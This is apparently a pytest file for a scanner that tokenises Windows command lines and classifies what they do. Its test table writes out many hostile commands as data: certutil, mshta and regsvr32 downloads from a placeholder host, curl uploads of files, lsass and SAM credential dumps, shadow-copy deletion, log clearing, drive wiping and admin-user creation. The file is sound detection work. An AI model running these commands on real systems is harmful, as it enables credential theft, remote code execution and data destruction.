"""What scripts of Windows share: how a command line is cut, and what the programs of Windows do with their words."""

import pytest

from pratique.facts.scan.languages.windows import installer, place_of_code, pretends, program_of, words_of
from pratique.facts.scan.languages.windows_deeds import (
    Arranges,
    Copies,
    Decodes,
    Deed,
    Fetches,
    Resolves,
    Runs,
    RunsRemote,
    Sends,
    Sets,
    Tells,
    is_everything,
)
from pratique.facts.scan.languages.windows_programs import deeds, is_program

AT = "https://a.example.invalid/x"


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("a b  c", ["a", "b", "c"]),
        ('a "b c" d', ["a", "b c", "d"]),
        ('a "b ""c"" d"', ["a", 'b "c" d']),
        ('a -c "x \\"y z\\""', ["a", "-c", 'x "y z"']),
        ('po"wer"shell', ["powershell"]),
        ("C:\\a\\b.exe c:\\d\\", ["C:\\a\\b.exe", "c:\\d\\"]),
        ('a ""', ["a", ""]),
        ('a "b', ["a", "b"]),
        ("", []),
    ],
)
def test_a_line_is_cut_as_windows_does_it(line: str, words: list[str]) -> None:
    assert words_of(line) == words


@pytest.mark.parametrize(
    ("word", "name"),
    [
        ("C:\\Windows\\System32\\cmd.exe", "cmd"),
        ('"powershell.exe"', "powershell"),
        ("rundll32", "rundll32"),
        ("python3.11", "python"),
        ("./tool", "tool"),
        ("a/b\\c.EXE", "c"),
    ],
)
def test_a_program_has_one_name(word: str, name: str) -> None:
    assert program_of(word) == name


DEEDS: dict[str, list[Deed]] = {
    f"certutil -urlcache -split -f {AT} a.exe": [Fetches(AT, "a.exe"), Tells("proc.lolbin")],
    f"certutil.exe /verifyctl /f {AT} a.exe": [Fetches(AT, "a.exe"), Tells("proc.lolbin")],
    "certutil -decode a.txt a.exe": [Decodes("a.txt", "a.exe")],
    "certutil -hashfile a.exe SHA256": [],
    f"bitsadmin /transfer j /priority high {AT} C:\\a.exe": [Fetches(AT, "C:\\a.exe")],
    f"curl {AT}": [Fetches(AT)],
    f"curl -sSLo a.exe {AT}": [Fetches(AT, "a.exe")],
    f"curl -O {AT}": [Fetches(AT, "x")],
    f"curl -d @a.txt {AT}": [Sends(AT, ("@a.txt",))],
    f"curl -F f=@a.txt {AT}": [Sends(AT, ("@a.txt",))],
    f"curl -T a.txt {AT}": [Sends(AT, ("@a.txt",))],
    f"wget -O a.exe {AT}": [Fetches(AT, "a.exe")],
    f"mshta {AT}": [RunsRemote(AT)],
    f"regsvr32 /s /i:{AT} scrobj.dll": [RunsRemote(AT)],
    f"msiexec /q /i {AT}": [RunsRemote(AT, installs=True)],
    "msiexec /i a.msi /qn": [],
    "rundll32 comsvcs.dll, MiniDump 1 a full": [Tells("read.accounts"), Tells("proc.memory_read")],
    "rundll32 shell32.dll,Control_RunDLL": [],
    "schtasks /create /tn a /tr b.exe /sc onlogon": [Arranges("write.schedule", "b.exe")],
    "schtasks /query": [],
    "reg add HKCU\\Software\\A /v B /t REG_SZ /d C /f": [Sets("HKCU\\Software\\A\\B", "C")],
    "reg query HKCU\\Software\\A": [],
    "reg save HKLM\\SAM a": [Tells("read.accounts")],
    "reg save HKLM\\SYSTEM a": [],
    "sc create a binPath= b.exe": [Arranges("write.service", "b.exe")],
    "sc query a": [],
    "netsh wlan show profile name=a key=clear": [Tells("read.secrets_store")],
    "wmic process call create calc.exe": [Runs("calc.exe")],
    "wmic shadowcopy delete": [Tells("harm.av_tamper")],
    "vssadmin delete shadows /all": [Tells("harm.av_tamper")],
    "vssadmin list shadows": [],
    "wbadmin delete catalog": [Tells("harm.av_tamper")],
    "bcdedit /set {default} recoveryenabled No": [Tells("harm.av_tamper")],
    "bcdedit /enum": [],
    "wevtutil cl System": [Tells("evade.history")],
    "fsutil usn deletejournal /d C:": [Tells("harm.av_tamper")],
    "copy a b": [Copies("a", "b")],
    "xcopy /s /y a b": [Copies("a", "b")],
    "robocopy a b *.txt": [Copies("a", "b")],
    "del /s /q C:\\*.*": [Tells("harm.delete"), Tells("harm.wipe")],
    "rd /s /q %USERPROFILE%": [Tells("harm.delete"), Tells("harm.wipe")],
    "rd /s /q build": [Tells("harm.delete")],
    "del C:\\a.txt": [Tells("harm.delete")],
    "format D: /q /y": [Tells("harm.wipe")],
    "cipher /w:C": [Tells("harm.wipe")],
    "nslookup -q=txt a.example.invalid": [Resolves("a.example.invalid")],
    "ping -n 1 a.b.example.invalid": [Resolves("a.b.example.invalid")],
    "ping -n 3 127.0.0.1": [],
    "whoami /all": [Tells("read.host_info")],
    "procdump -ma lsass.exe a": [Tells("read.accounts"), Tells("proc.memory_read")],
    "procdump -ma demo.exe a": [],
    "cmdkey /list": [Tells("read.secrets_store")],
    "net user a b /add": [Tells("write.access")],
    "net user a * /add": [],
    "net localgroup administrators a /add": [Tells("proc.privilege")],
    "attrib +h +s a": [Tells("evade.hidden_file")],
    'forfiles /c "cmd /c calc"': [Runs("cmd /c calc")],
    "shutdown /s /t 0": [Tells("harm.shutdown")],
    "certutil /?": [],
    "reg /?": [],
    "unheard-of -urlcache": [],
}


@pytest.mark.parametrize("line", DEEDS)
def test_programs_do_what_their_words_say(line: str) -> None:
    assert list(deeds(words_of(line))) == DEEDS[line]


@pytest.mark.parametrize(
    "path",
    ["C:\\", "c:", "D:\\*", "C:\\*.*", "%USERPROFILE%", "%SystemDrive%\\", "C:\\Windows", "C:\\Users\\*", "~", "/"],
)
def test_everything_is_everything(path: str) -> None:
    assert is_everything(path)


@pytest.mark.parametrize(
    "path",
    [
        "",
        "build",
        "C:\\demo",
        "%TEMP%",
        "%USERPROFILE%\\demo",
        "C:\\Users\\me\\demo",
        "C:\\Windows\\Temp",
        "..",
        "\ufffc\\",
    ],
)
def test_a_folder_is_not(path: str) -> None:
    assert not is_everything(path)


@pytest.mark.parametrize(
    "path", ["%APPDATA%\\svchost.exe", "C:\\Users\\Public\\lsass.exe", "C:\\Temp\\runtime-broker.exe"]
)
def test_a_borrowed_name_is_known(path: str) -> None:
    assert pretends(path)


@pytest.mark.parametrize(
    "path", ["C:\\Windows\\System32\\svchost.exe", "svchost.exe", "%APPDATA%\\demo.exe", "C:\\a\\svchost.txt"]
)
def test_a_name_of_ones_own_is_none(path: str) -> None:
    assert not pretends(path)


def test_only_the_very_address_of_an_installer_is_one() -> None:
    assert installer("https://get.scoop.sh")
    assert not installer("http://get.scoop.sh")
    assert not installer("https://get.scoop.sh.example.invalid")
    assert not installer("https://example.invalid/?https://get.scoop.sh")


def test_places_of_code_are_known_by_their_host() -> None:
    assert place_of_code("https://raw.githubusercontent.com/a/b/c")
    assert not place_of_code("https://example.invalid/raw.githubusercontent.com/")


@pytest.mark.parametrize(
    ("word", "is_one"), [("curl", True), ("a.exe", True), (".\\a", True), ("should", False), ("Write-Log", False)]
)
def test_programs_are_told_from_names_that_scripts_define(word: str, *, is_one: bool) -> None:
    assert is_program(word) is is_one
